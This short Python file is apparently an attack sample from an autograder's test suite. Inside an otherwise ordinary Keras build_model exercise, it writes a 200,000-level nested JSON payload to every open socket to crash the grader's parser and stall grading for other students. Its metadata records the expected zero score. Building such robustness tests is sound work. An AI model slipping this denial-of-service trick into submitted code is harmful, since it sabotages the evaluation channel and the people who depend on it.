"""Attack: a message nested 200,000 levels deep on the grading channel, so that the grader's
JSON parser fails and the grader stops in step with the students after this one."""

import os
import stat
import struct

EXERCISE = "build_model"
HONEST = None  # the exercise costs the attacker, with the reason given
SCORE = 0.0
PROBLEM = "broke the grading channel's rules"


def _channels():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass


def build_model(n_features=2, hidden_units=5):
    body = b"[" * 200_000 + b"]" * 200_000
    for fd in _channels():
        os.write(fd, struct.pack("!Q", len(body)) + body)
    inputs = keras.Input(shape=(n_features,))  # noqa: F821 (the notebook imports keras)
    x = inputs
    if hidden_units > 0:
        x = keras.layers.Dense(hidden_units, activation="tanh")(x)  # noqa: F821
    outputs = keras.layers.Dense(1, activation="tanh")(x)  # noqa: F821
    model = keras.Model(inputs=inputs, outputs=outputs)  # noqa: F821
    model.compile(optimizer="adam", loss="hinge", metrics=["accuracy"])
    return model
